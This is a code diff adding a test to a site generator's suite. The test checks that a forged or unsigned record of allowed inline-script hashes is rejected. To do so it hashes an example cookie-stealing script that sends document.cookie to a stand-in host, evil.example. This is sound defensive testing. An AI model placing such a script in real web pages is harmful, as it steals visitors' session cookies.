@@ -173,6 +173,32 @@ def test_a_hash_added_to_a_file_in_the_checkout_lets_no_inline_script_through(br
     assert evil not in (project.site / "narrative.html").read_text()
 
 
+def test_the_theme_scripts_found_are_kept_signed_and_a_record_signed_otherwise_is_not_trusted(brief, monkeypatch):
+    """The next build takes the reference build's findings from the work folder only under the user's signature: a
+    hash added to the record and signed with another key (or left unsigned) brings the reference build back."""
+    from generator.facts import parsecache
+
+    project = brief({})
+    monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})  # a build in a process of its own finds and keeps them
+    assert cli.main(["-C", str(project.root), "build"]) == 0
+    depths = frozenset(len(p.relative_to(project.site).parts) - 1 for p in project.site.rglob("*.html"))
+    honest = htmlcheck.theme_scripts(project.engine_config, depths)
+    made = []
+    reference = engine.reference_site
+    monkeypatch.setattr(engine, "reference_site", lambda *args: made.append(args) or reference(*args))
+    monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})  # as in the next build's process
+    assert htmlcheck.theme_scripts(project.engine_config, depths) == honest and made == []
+    record = project.work / "theme-scripts.json"
+    body = parsecache.opened(parsecache.signing_key(project.root), htmlcheck.SCRIPTS_FORMAT, record.read_bytes())
+    evil = htmlcheck.digest("fetch('https://evil.example/?'+document.cookie)")
+    forged = json.dumps({**json.loads(body), "scripts": sorted({*honest, evil})}).encode()
+    for planted in (parsecache.signed(b"k" * 32, htmlcheck.SCRIPTS_FORMAT, forged), forged):
+        record.write_bytes(planted)
+        monkeypatch.setattr(htmlcheck, "_THEME_SCRIPTS", {})
+        assert htmlcheck.theme_scripts(project.engine_config, depths) == honest
+    assert len(made) == 2 and evil not in honest
+
+
 # ---------------------------------------------------------------- the preview is marked as brief build marks it
 
 
